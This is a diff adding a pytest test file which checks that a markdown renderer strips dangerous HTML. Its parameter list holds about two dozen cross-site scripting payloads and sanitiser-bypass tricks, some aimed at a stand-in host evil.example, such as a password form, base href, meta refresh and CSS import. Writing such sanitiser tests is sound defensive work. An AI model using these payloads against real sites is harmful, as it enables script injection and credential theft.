@@ -1,0 +1,66 @@
+"""Dangerous HTML is removed."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.kb.small_articles import rendered
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "<script>alert(1)</script>",
+        "<ScRiPt src=//evil.example></sCrIpT>",
+        '<img src="x.png" onerror="alert(1)">',
+        '<a href="java&#115;cript:alert(1)">x</a>',
+        '<a href=" javascript:alert(1)">x</a>',
+        "[x](java\tscript:alert(1))",
+        "[x](<javascript:alert(1)>)",
+        "<javascript:alert(1)>",
+        "![x](javascript:alert(1))",
+        "[x][1]\n\n[1]: javascript:alert(1)",
+        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+        '<form action="https://evil.example"><input name="password"></form>',
+        '<div style="position:fixed">x</div>',
+        '<p class="site-header">x</p>',
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+        '## <img src="x" onerror="alert(1)"> {#"onclick="x}',
+        "```<script>\nalert(1)\n```",
+        '``` x"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
+        '[x](https://example.org/" onclick="alert(1))',
+        "<base href='https://evil.example'>",
+        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+        "<style>@import 'https://evil.example'</style>",
+        "<object data='x'></object><embed src='x'>",
+        '<a href="https://x.example" target="_blank" ping="https://evil.example">x</a>',
+    ],
+)
+def test_dangerous_html_is_removed(markdown: str) -> None:
+    """Parse the result like a browser and check the remaining elements and attributes."""
+    from html.parser import HTMLParser  # noqa: PLC0415 - only this test needs it
+
+    class Collector(HTMLParser):
+        parts: list[tuple[str, str, str]] = []  # noqa: RUF012 - filled below, per class made here
+
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            self.parts += [(tag, "", ""), *((tag, name, value or "") for name, value in attrs)]
+
+    collector = Collector()
+    collector.feed(rendered(f"Before\n\n{markdown}\n\nAfter").html)
+
+    tags = {tag for tag, _, _ in collector.parts}
+    assert not tags & {"script", "style", "iframe", "form", "input", "svg", "math", "object", "embed", "base", "meta"}
+    for _, name, value in collector.parts:
+        assert not name.startswith("on")
+        assert name not in {"style", "target", "ping", "srcdoc", "action"}
+        assert "script:" not in value.lower()
+        assert value != "site-header"
+
+
+def test_long_code_with_many_entities_is_kept() -> None:
+    code = "<a href='x'>&amp;</a> " * 2_000
+
+    assert rendered(f"```\n{code}\n```\n").sections[0].text == code.strip()
